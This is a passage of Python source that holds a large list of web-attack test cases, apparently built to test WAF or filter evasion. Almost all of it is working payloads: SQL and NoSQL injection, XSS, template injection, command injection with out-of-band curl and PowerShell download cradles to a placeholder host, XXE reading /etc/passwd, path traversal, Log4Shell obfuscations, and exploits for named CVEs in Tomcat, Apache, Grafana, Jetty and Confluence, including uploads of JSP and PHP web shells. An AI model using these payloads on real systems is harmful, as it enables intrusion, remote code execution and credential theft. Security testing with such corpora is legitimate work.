    ("sqli", "filename stored via string concat, sleep in expression", "multipart", "file",
     "photo'+(select sleep(5))+'.jpg"),
    ("rce", "command substitution in filename passed to shell convert", "multipart", "file",
     "a$(curl -s http://" + _OOB + "/$(whoami)).jpg"),

    # --- HTTP parameter pollution and array syntax ---
    ("sqli", "ASP.NET comma-joined duplicate params hide UNION SELECT", "raw", "",
     _req("GET", "/products.aspx?id=1%20UNION/*&id=*/SELECT%20name,password_hash/*&id=*/FROM%20dbo.users--")),
    ("xss", "ASP.NET comma-joined duplicate params split img tag", "raw", "",
     _req("GET", "/Search.aspx?q=%3Cimg%20src%3D%22x&q=%22%20onerror%3D%22alert(document.domain)%22%3E")),
    ("sqli", "PHP last-wins duplicate id", "raw", "",
     _req("GET", "/view.php?id=1&id=-1%20UNION%20SELECT%201,group_concat(user,0x3a,authentication_string),3%20"
                 "FROM%20mysql.user--%20-")),
    ("sqli", "Java servlet first-wins duplicate id", "raw", "",
     _req("GET", "/shop/product.jsp?id=-1%27%20OR%20%271%27%3D%271&id=1", host="shop.example.com:8080")),
    ("nosqli", "qs bracket syntax password[$ne]", "raw", "",
     _req("POST", "/login", [_FORM], "username=admin&password[$ne]=invalid", host="app.example.com")),
    ("nosqli", "qs bracket syntax $regex and $gt", "raw", "",
     _req("POST", "/api/auth", [_FORM], "username[$regex]=^a.*&password[$gt]=", host="app.example.com")),
    ("ssti", "EJS CVE-2022-29078 outputFunctionName via settings[view options]", "raw", "",
     _req("GET", "/page?id=2&settings[view%20options][outputFunctionName]=x;process.mainModule.require("
                 "'child_process').execSync('curl%20http://" + _OOB + "/ejs');s", host="app.example.com")),
    ("sqli", "PHP param name mangling user.id -> user_id", "raw", "",
     _req("GET", "/account.php?user.id=1%20AND%20SLEEP(5)")),
    ("sqli", "PHP $_REQUEST: POST body overrides clean GET value", "raw", "",
     _req("POST", "/item.php?id=5", [_FORM], "id=5%20AND%201%3D(SELECT%201%20FROM%20(SELECT%20SLEEP(5))x)")),
    ("sqli", "mysqljs object injection password[password]=1", "raw", "",
     _req("POST", "/login", [_FORM], "username=admin&password%5Bpassword%5D=1", host="app.example.com")),
    ("sqli", "mysqljs object injection via JSON object value", "json", "login",
     '{"username":"admin","password":{"password":1}}'),
    ("ptrav", "duplicate cookie, first one wins in PHP", "raw", "",
     _req("GET", "/index.php", ["Cookie: template=../../../../../../etc/passwd; template=default; PHPSESSID=8f1c2b"])),

    # --- case and comment mangling ---
    ("sqli", "mixed case with inline comments as spaces", "query", "id",
     "1'/**/UnIoN/**/SeLeCt/**/NULL,CoNcAt(username,0x3a,password),NULL/**/fRoM/**/users#"),
    ("sqli", "MySQL versioned comments /*!50000UNION*/", "query", "id",
     "1 /*!50000UNION*/ /*!50000SELECT*/ 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()-- -"),
    ("sqli", "whole function inside versioned comment", "form", "sort", "1' AND /*!50000SLEEP(5)*/-- -"),
    ("sqli", "case-mangled nested sleep with || concatenation", "query", "q",
     "x'||(SeLeCt/**/1/**/fRoM/**/(SeLeCt/**/SlEeP(5))a)||'"),
    ("sqli", "MSSQL hex command via DECLARE/EXEC, case mangled", "query", "id",
     "1;DeClArE/**/@x/**/VaRcHaR(99);SeT/**/@x=0x77686f616d69;ExEc/**/MaStEr..Xp_CmDsHeLl/**/@x--"),
    ("sqli", "PostgreSQL COPY TO PROGRAM, case mangled (CVE-2019-9193)", "form", "name",
     "';CoPy/**/(SeLeCt/**/'')/**/To/**/PrOgRaM/**/'curl http://" + _OOB + "/$(whoami)'--"),
    ("sqli", "Oracle v$version UNION, case mangled", "query", "dept",
     "' UnIoN SeLeCt NULL,banner FrOm v$version--"),
    ("xss", "mixed-case svg with JS comment before call", "form", "title", "<sVg/oNloAd=alert/*x*/(document.cookie)>"),
    ("xss", "HTML comment confusion closes inside attribute", "query", "q", '<!--<img src="--><svg onload=alert(1)>">'),
    ("xss", "nested script tag for strip-once filters", "form", "comment", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("rce", "quote-split command and path", "form", "host", "127.0.0.1;c''a\"\"t /e't'c/pa\\ss\\wd"),
    ("rce", "glob wildcards for binary and file", "query", "ip", "127.0.0.1|/???/?at /???/p??s??"),
    ("rce", "empty $@ and $() expansions inside command name", "form", "domain", "example.com\nw$@ho$()ami"),
    ("rce", "cmd.exe caret escapes", "form", "host", "127.0.0.1 & w^h^o^a^m^i"),
    ("rce", "PowerShell backtick-obfuscated IEX download cradle", "form", "host",
     "127.0.0.1; Ie`X (Ne`w-Ob`ject Net.WebClient).DownloadString('http://" + _OOB + "/a.ps1')"),
    ("rce", "bash ANSI-C $'\\x..' quoting", "query", "host", "127.0.0.1;$'\\x63\\x61\\x74' /etc/passwd"),
    ("ssti", "Jinja2 |attr with \\x5f escapes to bypass underscore filter", "query", "name",
     "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
     "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
     "|attr('popen')('id')|attr('read')()}}"),
    ("ssti", "Jinja2 adjacent string literal concatenation", "form", "greeting",
     "{{lipsum.__globals__['o''s'].popen('i''d').read()}}"),
    ("ssti", "Twig filter callback with ~ string concatenation", "query", "name",
     "{{['cat /etc/passwd']|filter('sy'~'stem')}}"),
    ("ssti", "FreeMarker Execute class name split by +", "form", "template",
     '<#assign c="freemarker.template.utility.Ex"+"ecute"><#assign ex=c?new()>${ex("id")}'),
    ("java", "Log4Shell with ${lower:} per-letter lookups", "header:User-Agent", "",
     "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://" + _OOB + "/a}"),
    ("java", "Log4Shell with ${::-x} default-value lookups", "header:X-Api-Version", "",
     "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + _OOB + "/b}"),
    ("java", "Log4Shell with ${env:NaN:-x} fallbacks", "header:X-Forwarded-For", "",
     "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + _OOB + "/c}"),
    ("java", "Log4Shell ${upper:j} prefix (lookup names are lower-cased)", "header:Referer", "",
     "${${upper:j}ndi:dns://" + _OOB + "/d}"),
    ("java", "Log4Shell lookups inside the protocol name", "cookie", "",
     "JSESSIONID=${jndi:${lower:l}${lower:d}a${lower:p}://" + _OOB + "/e}"),
    ("php", "mixed-case PHP tag and function for log poisoning", "header:User-Agent", "",
     "<?PhP SyStEm($_GET['c']); ?>"),
    ("php", "mixed-case php://filter wrapper name", "query", "page",
     "PhP://FiLtEr/convert.base64-encode/resource=index"),
    ("php", "string-built function name in eval injection", "query", "expr", "1;$f='sy'.'stem';$f('id');"),
    ("php", "PHP comment between function name and call", "form", "code", "system/*x*/('cat /etc/passwd');"),
    ("ptrav", "..././ strip-once traversal", "query", "doc", "..././..././..././..././etc/passwd"),

    # --- whitespace alternatives ---
    ("sqli", "MySQL vertical tab / form feed as spaces", "form", "id", "1\x0bUNION\x0cSELECT\x0bnull,@@version,null-- -"),
    ("sqli", "MSSQL control bytes 0x01-0x05 as whitespace", "raw", "",
     _req("GET", "/news.aspx?id=1%01UNION%02SELECT%03name,password%04FROM%05users--")),
    ("sqli", "PostgreSQL form feeds with CAST error leak", "form", "q",
     "1\x0cAND\x0c1=CAST((SELECT\x0cstring_agg(usename,',')\x0cFROM\x0cpg_user)\x0cAS\x0cint)"),
    ("sqli", "MySQL # comment plus newline between keywords", "form", "cat", "1 UNION#abc\nSELECT 1,user(),3"),
    ("sqli", "parentheses instead of whitespace", "query", "id",
     "-1'UNION(SELECT(1),(SELECT(group_concat(schema_name))FROM(information_schema.schemata)),(3))#"),
    ("xss", "form feed between tag name and handler", "query", "q", "<svg\x0conload=alert(1)>"),
    ("xss", "tab and newline inside javascript scheme", "form", "link", '<a href="jav\tasc\nript:alert(document.domain)">x</a>'),
    ("xss", "NBSP as JS whitespace inside handler", "query", "q", '<img src=x onerror="alert\u00a0(document.cookie)">'),
    ("rce", "${IFS} instead of space", "query", "host", "127.0.0.1;cat${IFS}/etc/passwd"),
    ("rce", "newline as command separator", "query", "addr", "127.0.0.1\ncurl http://" + _OOB + "/$(whoami)"),
    ("rce", "brace expansion without spaces", "form", "host", "127.0.0.1;{cat,/etc/passwd}"),
    ("rce", "input redirection without spaces", "query", "target", "127.0.0.1;cat</etc/passwd"),
    ("ssti", "Jinja2 expression padded with tabs/newlines", "form", "name",
     "{{\n\tself.__init__.__globals__.__builtins__.__import__('os').popen('id').read()\n}}"),
    ("php", "tab after <?php open tag for log poisoning", "header:Referer", "", "<?php\tsystem($_GET['cmd']);?>"),
    ("xxe", "tabs and newlines inside DOCTYPE/ENTITY declarations", "body:application/xml", "orders",
     '<?xml\tversion="1.0"?>\n<!DOCTYPE\n\torder\t[\n\t<!ENTITY\n\txxe\n\tSYSTEM\n\t"file:///etc/passwd"\t>\n]>\n'
     "<order><id>&xxe;</id></order>"),
    ("xxe", "PUBLIC identifier instead of SYSTEM", "body:application/xml", "catalog",
     '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x PUBLIC "-//W3C//TEXT x//EN" "file:///etc/hosts">]><c>&x;</c>'),
    ("nosqli", "tabs/newlines around $ne operator JSON", "json", "login",
     '{"username"\n:\t"admin",\r\n"password"\t:\n{\t"$ne"\t:\tnull\t}}'),

    # --- long padding before the payload ---
    ("sqli", "64 KB filler field before UNION payload", "raw", "",
     _req("POST", "/search.php", [_FORM],
          "notes=" + quote_plus(_pad(65536)) + "&id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-")),
    ("sqli", "32 KB MySQL comment padding inside the injected value", "form", "id",
     "1 /*" + "A" * 32768 + "*/ UNION SELECT username,password FROM users-- -"),
    ("xss", "20 KB filler then svg in the same field", "form", "message", _pad(20480) + "<svg onload=alert(document.domain)>"),
    ("xss", "100 KB JSON field before stored XSS field", "json", "comment",
     json.dumps({"filler": _pad(102400), "comment": "<img src=x onerror=alert(document.cookie)>"})),
    ("nosqli", "50 KB bio field before $ne operators", "json", "login",
     json.dumps({"bio": _pad(51200), "username": {"$ne": None}, "password": {"$ne": None}})),
    ("rce", "16 KB of spaces between host and separator", "form", "host", "127.0.0.1" + " " * 16384 + ";cat /etc/passwd"),
    ("xxe", "50 KB XML comment in prolog before DOCTYPE", "body:application/xml", "import",
     '<?xml version="1.0"?>\n<!--' + _pad(51200) + '-->\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>'),
    ("ssti", "10 KB filler then Jinja2 payload in same field", "form", "bio",
     _pad(10240) + "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("java", "6 KB User-Agent padding before JNDI lookup", "header:User-Agent", "",
     "Mozilla/5.0 (" + "A" * 6000 + ") ${jndi:ldap://" + _OOB + ":1389/ua}"),
    ("ptrav", "7 KB tracking param before traversal param", "raw", "",
     _req("GET", "/download?utm_source=" + "a" * 7000 + "&file=..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
    ("sqli", "100 KB file part before injected text field", "raw", "",
     _mpreq("/ticket/create.php", "----WebKitFormBoundaryPadF1le100k",
            [(['Content-Disposition: form-data; name="attachment"; filename="log.txt"', "Content-Type: text/plain"],
              _pad(102400)),
             (_fd("priority"), "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)")])),
    ("sqli", "900 junk parameters before payload (max_input_vars)", "raw", "",
     _req("POST", "/report.php", [_FORM],
          "&".join(f"f{i}=1" for i in range(900)) + "&id=1%20AND%20extractvalue(1,concat(0x7e,version()))")),
    ("sqli", "3.8 KB analytics cookie before injected cookie", "cookie", "",
     "_ga=GA1.2." + "1" * 3800 + "; uid=1' AND SLEEP(5)-- -"),
    ("php", "GIF89a polyglot with 30 KB padding then PHP shell", "raw", "",
     _mpreq("/gallery/upload.php", "----WebKitFormBoundaryGifPhp30k",
            [(['Content-Disposition: form-data; name="image"; filename="cat.gif.php"', "Content-Type: image/gif"],
              "GIF89a" + "\x00" * 30000 + _PHP_SHELL)])),

    # --- chunked transfer and compressed bodies ---
    ("sqli", "chunked form body split into 3-byte chunks", "raw", "",
     _req("POST", "/search.php", [_FORM, "Transfer-Encoding: chunked"],
          _chunked("q=x%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20mysql.user--%20-", 3), length=False)),
    ("xss", "chunked body with chunk extensions", "raw", "",
     _req("POST", "/comments", [_FORM, "Transfer-Encoding: chunked"],
          _chunked("post=9&comment=%3Csvg%20onload%3Dalert(document.domain)%3E", 5, ext=";foo=bar"), length=False)),
    ("rce", "chunked body with zero-padded upper-case sizes", "raw", "",
     _req("POST", "/ping.php", [_FORM, "Transfer-Encoding: chunked"],
          _chunked("host=127.0.0.1%7Cid%3Buname%20-a", 4, width=4), length=False)),
    ("xxe", "chunked XML with DOCTYPE split across chunks", "raw", "",
     _req("POST", "/api/import", [_XMLCT, "Transfer-Encoding: chunked"],
          _chunked(_XXE_PASSWD + "<items><item>&xxe;</item></items>", 9), length=False, host="api.example.com")),
    ("nosqli", "chunked JSON with $where", "raw", "",
     _req("POST", "/api/login", [_JSON, "Transfer-Encoding: chunked"],
          _chunked('{"username":"admin","$where":"sleep(5000) || true"}', 6), length=False, host="app.example.com")),
    ("ssti", "chunked form with Twig filter('system')", "raw", "",
     _req("POST", "/preview", [_FORM, "Transfer-Encoding: chunked"],
          _chunked("name=%7B%7B%5B%27id%27%5D%7Cfilter%28%27system%27%29%7D%7D", 2), length=False)),
    ("php", "chunked PHP code to php://input include", "raw", "",
     _req("POST", "/index.php?page=php://input", [_FORM, "Transfer-Encoding: chunked"],
          _chunked("<?php system('id'); ?>", 4), length=False)),
    ("sqli", "chunked multipart body", "raw", "",
     _req("POST", "/search.php", ["Content-Type: multipart/form-data; boundary=ChUnKeD", "Transfer-Encoding: chunked"],
          _chunked(_mp_body("ChUnKeD", [(_fd("q"), "' OR 1=1 UNION SELECT NULL,@@version-- -")]), 7), length=False)),
    ("sqli", "gzip Content-Encoding JSON body", "raw", "",
     _req("POST", "/api/v1/reports", [_JSON, "Content-Encoding: gzip"],
          _gz('{"from":"2024-01-01","to":"2024-01-31\' UNION SELECT username,password FROM users-- -"}'),
          host="api.example.com")),
    ("xss", "gzip Content-Encoding form body", "raw", "",
     _req("POST", "/feedback", [_FORM, "Content-Encoding: gzip"],
          _gz("name=Ann&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"))),
    ("xxe", "gzip SOAP envelope with XXE", "raw", "",
     _req("POST", "/ws/PaymentService", ["Content-Type: text/xml; charset=utf-8", "Content-Encoding: gzip",
                                         'SOAPAction: "urn:getStatus"'],
          _gz('<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
              '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
              '<getStatus><id>&x;</id></getStatus></soapenv:Body></soapenv:Envelope>'), host="pay.example.com")),
    ("java", "deflate Content-Encoding JSON with Log4Shell", "raw", "",
     _req("POST", "/api/events", [_JSON, "Content-Encoding: deflate"],
          _deflate('{"event":"login","user":"${jndi:ldap://' + _OOB + '/df}"}'), host="api.example.com")),
    ("rce", "gzip body additionally sent chunked", "raw", "",
     _req("POST", "/api/tools/dns", [_JSON, "Content-Encoding: gzip", "Transfer-Encoding: chunked"],
          _chunked(_gz('{"domain":"example.com;curl http://' + _OOB + '/r|sh"}'), 16), length=False,
          host="api.example.com")),
    ("ptrav", "gzip JSON file path traversal", "raw", "",
     _req("POST", "/api/export", [_JSON, "Content-Encoding: gzip"],
          _gz('{"template":"../../../../../../etc/passwd","format":"pdf"}'), host="api.example.com")),

    # --- method / verb tampering ---
    ("sqli", "arbitrary method name still served by PHP", "raw", "",
     _req("JEFF", "/item.php?id=1%20AND%20SLEEP(5)")),
    ("sqli", "HEAD request carrying time-based blind", "raw", "",
     _req("HEAD", "/product.php?id=1%27%20AND%20SLEEP(5)--%20-")),
    ("nosqli", "GET with JSON body (body-parser reads any method)", "raw", "",
     _req("GET", "/api/users/search", [_JSON], '{"username":{"$regex":".*"},"password":{"$ne":null}}',
          host="app.example.com")),
    ("sqli", "_method=PUT override field with injection", "raw", "",
     _req("POST", "/users/17", [_FORM], "_method=PUT&nickname=x%27%2C%20is_admin%3D1%20WHERE%20id%3D17--%20-")),
    ("nosqli", "X-HTTP-Method-Override PATCH with $set", "raw", "",
     _req("POST", "/api/users/me", [_JSON, "X-HTTP-Method-Override: PATCH"], '{"$set":{"role":"admin"}}',
          host="api.example.com")),
    ("java", "Tomcat CVE-2017-12615 PUT JSP with trailing slash", "raw", "",
     _req("PUT", "/cmd.jsp/", ["Content-Type: application/octet-stream"],
          '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); '
          'BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; '
          'while ((l = r.readLine()) != null) { out.println(l); } %>', host="tomcat.example.com:8080")),
    ("java", "Tomcat CVE-2017-12615 PUT JSP with ::$DATA on Windows", "raw", "",
     _req("PUT", "/shell.jsp::$DATA", ["Content-Type: application/octet-stream"],
          '<%Runtime.getRuntime().exec(new String[]{"cmd.exe","/c",request.getParameter("c")});%>',
          host="tomcat.example.com:8080")),
    ("php", "WebDAV PUT of PHP web shell", "raw", "",
     _req("PUT", "/uploads/cmd.php", ["Content-Type: text/plain"], _PHP_SHELL)),
    ("sqli", "HTTP/1.0 request without Host header", "raw", "",
     _req("GET", "/index.php?id=-1%20UNION%20SELECT%201,2,load_file(%27/etc/passwd%27)--%20-", host=None,
          version="HTTP/1.0")),
    ("xss", "absolute-form request target", "raw", "",
     _req("GET", "http://www.example.com/search?q=%3Csvg%20onload%3Dalert(document.domain)%3E")),
    ("xxe", "XXE in WebDAV PROPFIND body", "raw", "",
     _req("PROPFIND", "/webdav/", ["Content-Type: application/xml", "Depth: 1"],
          '<?xml version="1.0"?><!DOCTYPE propfind [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
          '<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&x;</D:displayname></D:prop></D:propfind>')),

    # --- path tricks: ;params, //, /./, encoded slashes, trailing dots ---
    ("ptrav", "Tomcat ..;/ path-parameter traversal behind reverse proxy", "raw", "",
     _req("GET", "/static/..;/..;/WEB-INF/web.xml")),
    ("ptrav", "Jetty CVE-2021-28164 %2e segment to WEB-INF", "raw", "",
     _req("GET", "/%2e/WEB-INF/web.xml", host="jetty.example.com:8080")),
    ("ptrav", "Jetty CVE-2021-34429 %u002e segment", "raw", "",
     _req("GET", "/%u002e/WEB-INF/web.xml", host="jetty.example.com:8080")),
    ("ptrav", "Jetty CVE-2021-34429 .%00 segment", "raw", "",
     _req("GET", "/.%00/WEB-INF/web.xml", host="jetty.example.com:8080")),
    ("ptrav", "Apache 2.4.49 CVE-2021-41773 .%2e traversal", "raw", "",
     _req("GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd")),
    ("rce", "CVE-2021-41773 cgi-bin .%2e traversal to /bin/sh", "raw", "",
     _req("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", [_FORM], "echo;id")),
    ("ptrav", "Grafana CVE-2021-43798 plugin path with encoded slashes", "raw", "",
     _req("GET", "/public/plugins/welcome/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
          host="grafana.example.com:3000")),
    ("ptrav", "Grafana CVE-2021-43798 with #/ fragment trick", "raw", "",
     _req("GET", "/public/plugins/alertlist/#/../../../../../../../../../etc/grafana/grafana.ini",
          host="grafana.example.com:3000")),
    ("ptrav", "nginx alias off-by-slash /static../", "raw", "", _req("GET", "/static../.env")),
    ("ptrav", "IIS ::$DATA source disclosure", "raw", "", _req("GET", "/login.asp::$DATA")),
    ("ptrav", "Windows trailing dots stripped from traversal target", "query", "file",
     "..\\..\\..\\inetpub\\wwwroot\\web.config..."),
    ("ptrav", "/./ and // mixed into absolute path", "query", "path", "/var/www/uploads/./..//..//..//.//etc/./passwd"),
    ("sqli", "injection in REST segment followed by ;jsessionid path param", "raw", "",
     _req("GET", "/api/products/1%27%20OR%20%271%27%3D%271;jsessionid=A1B2C3D4E5", host="shop.example.com:8080")),
    ("xss", "PHP_SELF PATH_INFO reflection", "raw", "",
     _req("GET", "/index.php/%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E")),
    ("ssti", "Thymeleaf view-name manipulation via path", "raw", "",
     _req("GET", "/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22touch%20/tmp/pwned%22)%7D__::.x",
          host="app.example.com:8080")),
    ("java", "Confluence CVE-2022-26134 OGNL in URI path", "raw", "",
     _req("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime"
                 "%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork."
                 "ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
          host="confluence.example.com:8090")),
    ("ssti", "Jinja2 in path reflected by Flask 404 handler", "raw", "",
     _req("GET", "/%7B%7Bcycler.__init__.__globals__.os.popen(%27id%27).read()%7D%7D")),
    ("ptrav", "encoded slashes decoded in Express route param", "raw", "",
     _req("GET", "/api/attachments/..%2f..%2f..%2f..%2fetc%2fpasswd", host="app.example.com")),
    ("ptrav", "Rails Sprockets CVE-2018-3760 file:// with %252e", "raw", "",
     _req("GET", "/assets/file:%2f%2f/usr/src/app/app/assets/images/%252e%252e/%252e%252e/%252e%252e/%252e%252e/"
                 "%252e%252e/etc/passwd", host="rails.example.com:3000")),
    ("php", "cgi.fix_pathinfo: image executed as PHP via /x.php suffix", "raw", "",
     _req("GET", "/uploads/avatars/1337.jpg/x.php?cmd=id")),
]
